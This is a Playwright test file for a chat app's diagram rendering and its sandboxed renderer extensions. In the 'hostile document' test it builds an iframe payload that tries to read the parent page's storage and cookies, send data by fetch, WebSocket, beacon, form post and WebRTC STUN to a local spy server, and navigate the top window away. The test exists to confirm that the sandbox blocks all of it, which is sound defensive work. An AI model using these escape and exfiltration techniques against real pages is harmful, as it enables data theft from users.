import { createSocket } from "node:dgram";
import { readFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { fileURLToPath } from "node:url";
import type { Page, Request } from "@playwright/test";
import type { Gateway } from "./support/gateway";
import { answers, ended, expect, expectAccessible, openModelThread, say, test } from "./support/test";

const SHOTS = fileURLToPath(new URL("../../target/web-screenshots", import.meta.url));

const FLOW = [
  "graph TD",
  "  ask[Ask in chat] --> card{Approve?}",
  "  card -->|yes| runs[It runs]",
  "  card -->|no| gone",
];

/** Has the model say it: the test's model repeats what it is told. */
async function tell(page: Page, block: string, lines: readonly string[]): Promise<void> {
  await say(page, ["draw", `\`\`\`${block}`, ...lines, "```"].join("\n"));
  await ended(page);
}

async function addRenderer(gateway: Gateway, name: string, definition: object): Promise<string> {
  const made = await gateway.call("POST", "/extensions", {
    type: "renderer",
    name,
    description: "Draws it.",
    definition,
    enabled: true,
  });
  return made.id;
}

const drawn = (page: Page) => answers(page).last().frameLocator("iframe");

test.describe("a diagram in an answer", () => {
  for (const { name, viewport, colorScheme } of [
    { name: "phone-light", viewport: { width: 390, height: 844 }, colorScheme: "light" },
    { name: "desktop-dark", viewport: { width: 1440, height: 900 }, colorScheme: "dark" },
  ] as const) {
    test.describe(name, () => {
      test.use({ viewport, colorScheme });

      test("is drawn, shows its source when asked, and says why when it cannot be", async ({
        paired: page,
        gateway,
      }) => {
        await openModelThread(page, gateway, "Diagrams");
        await tell(page, "mermaid", FLOW);
        const answer = answers(page).last();
        await expect(drawn(page).locator("svg")).toBeVisible({ timeout: 20_000 });
        await expect(drawn(page).getByText("Ask in chat")).toBeVisible();
        const box = answer.locator(".sandbox");
        await expect(box).toHaveAttribute("data-drawn", "true");
        await expect
          .poll(async () => {
            const inside = await drawn(page)
              .locator("#drawing")
              .evaluate((shown) => shown.getBoundingClientRect().height);
            return Math.abs(inside - ((await box.boundingBox())?.height ?? 0));
          })
          .toBeLessThanOrEqual(1);
        await expectAccessible(page);
        expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
        await page.screenshot({ path: `${SHOTS}/${name}-diagram.png` });

        await answer.getByRole("button", { name: "Show the source" }).click();
        await expect(answer.locator("pre")).toContainText("card -->|yes| runs");
        await expect(answer.locator("iframe")).toHaveCount(0);
        await answer.getByRole("button", { name: "Show the source" }).click();
        await expect(drawn(page).locator("svg")).toBeVisible();

        // Wider than a phone: not so small that nobody can read it, but scrolled, by the keyboard too.
        await tell(page, "mermaid", [
          "sequenceDiagram",
          "  participant A as Somebody with a name",
          "  participant B as Somebody with another",
          "  A->>B: something that takes a good many words to say to them",
        ]);
        await expect(drawn(page).locator("svg")).toBeVisible({ timeout: 20_000 });
        await expectAccessible(page);
        const { shown, natural } = await drawn(page)
          .locator("svg")
          .evaluate((svg) => ({
            shown: svg.getBoundingClientRect().width,
            natural: Number.parseFloat((svg as SVGElement).style.maxWidth),
          }));
        expect(shown / natural).toBeGreaterThanOrEqual(0.69);

        await tell(page, "mermaid", ["graph TD", "  one --> --> two"]);
        await expect(answers(page).last()).toContainText("could not draw it", { timeout: 20_000 });
        await expect(answers(page).last().locator("pre")).toContainText("one --> --> two");
        await page.screenshot({ path: `${SHOTS}/${name}-diagram-failed.png` });
      });
    });
  }
});

test.describe("a document of one's own", () => {
  test.use({ expectedComplaints: { any: [/eyes\.reduce is not a function/] } });

  test("gets its data, its colours and the height it asks for", async ({ paired: page, gateway }) => {
    await addRenderer(gateway, "dice", {
      contentType: "application/vnd.test.dice+json",
      sandbox: `<!doctype html><meta charset="utf-8"><title>Dice</title><style>body{margin:0}p{margin:0;height:77px}</style>
      <p id="sum" onclick="more()">nothing yet</p><script>function more() { sum.textContent += "!"; }</script><script>
      addEventListener("message", ({ source, data }) => {
        if (source !== parent || data.type !== "data") return;
        sum.textContent = "sum " + data.data.eyes.reduce((a, b) => a + b) + " of " + data.text.length + " " + data.contentType;
        sum.style.color = data.colors.accent;
        parent.postMessage({ type: "resize", height: data.data.height ?? sum.offsetHeight }, "*");
      });</script>`,
    });
    await openModelThread(page, gateway, "Dice");
    const type = "application/vnd.test.dice+json";
    await tell(page, type, ['{"eyes": [2, 5]}']);
    await expect(drawn(page).locator("#sum")).toHaveText(`sum 7 of 16 ${type}`);
    await drawn(page).locator("#sum").click();
    await expect(drawn(page).locator("#sum")).toHaveText(`sum 7 of 16 ${type}!`);
    await expect(drawn(page).locator("#sum")).toHaveCSS("color", "rgb(84, 70, 212)");
    await expect(answers(page).last().locator(".sandbox")).toHaveCSS("height", "77px");

    await tell(page, type, ['{"eyes": [1], "height": 1e9}']);
    await expect(answers(page).last().locator(".sandbox")).toHaveCSS("height", "1200px");
    await tell(page, type, ['{"eyes": "none"}']);
    await expect(answers(page).last()).toContainText("could not draw it");
    await expect(answers(page).last().locator("pre")).toContainText('"none"');
  });
});

/** The script of the frame, which a frame inside of it may run too. */
const HOSTING =
  /<script>(.*)<\/script>/s.exec(readFileSync(new URL("../public/frame.html", import.meta.url), "utf8"))?.[1] ?? "";

/** Everything a document could try that is none of its business; what got through is said in its own frame. */
const HOSTILE = (spy: string, stun: number) => `<!doctype html><meta charset="utf-8"><title>Hostile</title>
<meta http-equiv="refresh" content="3;url=${spy}/meta-refresh">
<link rel="stylesheet" href="${spy}/style.css"><link rel="prefetch" href="${spy}/prefetch">
<link rel="preconnect" href="${spy}"><link rel="dns-prefetch" href="${spy}"><link rel="preload" as="image" href="${spy}/preload"><link rel="manifest" href="${spy}/manifest">
<style>@import url("${spy}/import.css");
@font-face { font-family: spied; src: url("${spy}/font.woff2") } body { font-family: spied; background: url("${spy}/bg.png") }</style>
<p id="said">…</p><img src="${spy}/image.png"><script src="${spy}/script.js"></script>
<iframe src="${spy}/frame"></iframe><object data="${spy}/object"></object><embed src="${spy}/embed">
<video src="${spy}/video"></video><form id="form" action="${spy}/form" method="post"><input name="x"></form>
<a id="out" target="_top" href="${spy}/top-link">out</a><a id="new" target="_blank" href="${spy}/new-link">new</a>
<script>
const passed = [];
const hosting = ${JSON.stringify(HOSTING).replaceAll("</", "<\\/")};
const attempt = async (name, work) => { try { await work(); passed.push(name); } catch {} };
(async () => {
  await attempt("read the page", () => parent.document.title);
  await attempt("read the page's storage", () => parent.localStorage.length);
  await attempt("read the page's address", () => top.location.href.length);
  await attempt("localStorage", () => localStorage.length);
  await attempt("sessionStorage", () => sessionStorage.length);
  await attempt("cookie", () => document.cookie);
  await attempt("indexedDB", () => new Promise((done, failed) => {
    const request = indexedDB.open("x"); request.onsuccess = done; request.onerror = failed; }));
  await attempt("caches", () => caches.keys());
  await attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
  await attempt("fetch the gateway", () => fetch("/threads"));
  await attempt("fetch", () => fetch("${spy}/fetch", { mode: "no-cors" }));
  await attempt("xhr", () => new Promise((done, failed) => {
    const request = new XMLHttpRequest(); request.open("GET", "${spy}/xhr"); request.onload = done; request.onerror = failed; request.send(); }));
  await attempt("socket", () => new Promise((done, failed) => {
    const socket = new WebSocket("${spy}/socket".replace("http", "ws")); socket.onopen = done; socket.onerror = failed; }));
  await attempt("gateway's stream", () => new Promise((done, failed) => {
    const socket = new WebSocket(new URL("/stream", document.baseURI).href.replace("http", "ws"), ["daemion"]); socket.onopen = done; socket.onerror = failed; }));
  await attempt("events", () => new Promise((done, failed) => {
    const source = new EventSource("${spy}/events"); source.onopen = done; source.onerror = failed; }));
  await attempt("worker", () => new Promise((done, failed) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); worker.onmessage = done; worker.onerror = failed; }));
  await attempt("import", () => import("${spy}/module.js"));
  await attempt("open a window", () => { if (open("${spy}/window") === null) throw 0; });
  await attempt("move the top", () => { top.location = "${spy}/top"; });
  navigator.sendBeacon("${spy}/beacon", "x");
  try { form.submit(); } catch {}
  out.click();
  document.getElementById("new").click();
  try {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${stun}" }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  } catch {}
  // Once more in frames of its own, with what is left of a script there: it is handed in as our page does it.
  const call = "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun}' }] });" +
    "p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer));";
  const end = "<" + "/script>";
  addEventListener("message", ({ source, data }) => data.type === "frame" && source !== parent &&
    source.postMessage({ type: "document", libraries: [call], html: "<script>" + call + end }, "*"));
  for (const inside of ["<script>" + call + end, '<svg onload="' + call + '"></svg>', "<script>" + hosting + end]) {
    const inner = document.createElement("iframe");
    inner.srcdoc = inside;
    document.body.append(inner);
  }
  const inner = document.createElement("iframe");
  inner.src = "javascript:" + call;
  document.body.append(inner);
  said.textContent = passed.length === 0 ? "nothing got through" : "got through: " + passed.join(", ");
  parent.postMessage({ type: "resize", height: 100 }, "*");
})();
// It says the page's own words, and more of them than anyone would.
parent.postMessage({ type: "open", target: "/#/approvals" }, "*");
addEventListener("message", ({ data }) => { if (data.data?.leave) location = "${spy}/self?" + JSON.stringify(data).length; });
</script>`;

const isFramed = (request: Request) => request.serviceWorker() === null && request.frame().parentFrame() !== null;

test.describe("a hostile document", () => {
  test.setTimeout(90_000);
  // Each thing it is kept from is reported on the console, and nothing else is.
  test.use({
    expectedComplaints: {
      any: [
        /frame\.html/,
        /\(about:blank\)/,
        /violates the following|Unsafe attempt|Blocked|Refused to|RTCPeerConnection is not defined/i,
      ],
    },
  });

  test("reads nothing of the page, reaches no network, and leads nobody away", async ({ paired: page, gateway }) => {
    const asked: string[] = [];
    const spy: Server = createServer((request, response) => {
      asked.push(`${request.method} ${request.url}`);
      response.end("seen");
    });
    spy.on("connection", () => asked.push("a connection"));
    await new Promise<void>((resolve) => spy.listen(0, "127.0.0.1", resolve));
    const stun = createSocket("udp4");
    stun.on("message", (message) => asked.push(`STUN ${message.length}`));
    await new Promise<void>((resolve) => stun.bind(0, "127.0.0.1", resolve));
    const address = `http://127.0.0.1:${(spy.address() as AddressInfo).port}`;
    // Refused ones never get an answer.
    const answered: string[] = [];
    page.context().on("response", (response) => {
      if (isFramed(response.request()) && !response.url().endsWith("/frame.html")) {
        answered.push(response.url());
      }
    });
    let windows = 0;
    page.context().on("page", () => windows++);
    try {
      await fetch(`${address}/control`);
      expect(asked.splice(0)).toEqual(["a connection", "GET /control"]);
      await addRenderer(gateway, "hostile", {
        contentType: "application/vnd.test.hostile+json",
        sandbox: HOSTILE(address, stun.address().port),
      });
      await openModelThread(page, gateway, "Hostile");
      const here = page.url();
      await tell(page, "application/vnd.test.hostile+json", ['{"secret": "the data it is given"}']);
      await expect(drawn(page).locator("#said")).toHaveText("nothing got through", { timeout: 20_000 });
      // Longer than its own timer takes to lead the frame away.
      await page.waitForTimeout(4_000);
      expect(page.url()).toBe(here);
      expect(windows).toBe(0);
      await tell(page, "application/vnd.test.hostile+json", ['{"leave": true}']);
      await page.waitForTimeout(2_000);
      expect(page.url()).toBe(here);
      expect(asked).toEqual([]);
      expect(answered).toEqual([]);
      await expect(page.getByRole("heading", { level: 1, name: "Hostile" })).toBeVisible();
      expect(await page.evaluate(() => localStorage.getItem("daemion.token"))).not.toBeNull();
    } finally {
      stun.close();
      spy.closeAllConnections();
      await new Promise((resolve) => spy.close(resolve));
    }
  });

  test("that never answers, or never stops talking, makes room for the source", async ({ paired: page, gateway }) => {
    await addRenderer(gateway, "silent", {
      contentType: "application/vnd.test.silent+json",
      sandbox: "<!doctype html><title>Silent</title>",
    });
    await addRenderer(gateway, "chatterer", {
      contentType: "application/vnd.test.chatterer+json",
      sandbox: `<!doctype html><title>Talks</title><script>
        setInterval(() => { for (let i = 0; i < 100; i++) parent.postMessage({ type: "resize", height: i }, "*"); }, 10);
      </script>`,
    });
    await openModelThread(page, gateway, "Trouble");
    await tell(page, "application/vnd.test.chatterer+json", ["[1]"]);
    await expect(answers(page).last()).toContainText("it sends too many messages");
    await expect(answers(page).last().locator("iframe")).toHaveCount(0);
    await tell(page, "application/vnd.test.silent+json", ["[2]"]);
    await expect(answers(page).last()).toContainText("nothing was drawn in 15 s", { timeout: 25_000 });
    await expect(answers(page).last().locator("pre")).toContainText("[2]");
  });
});
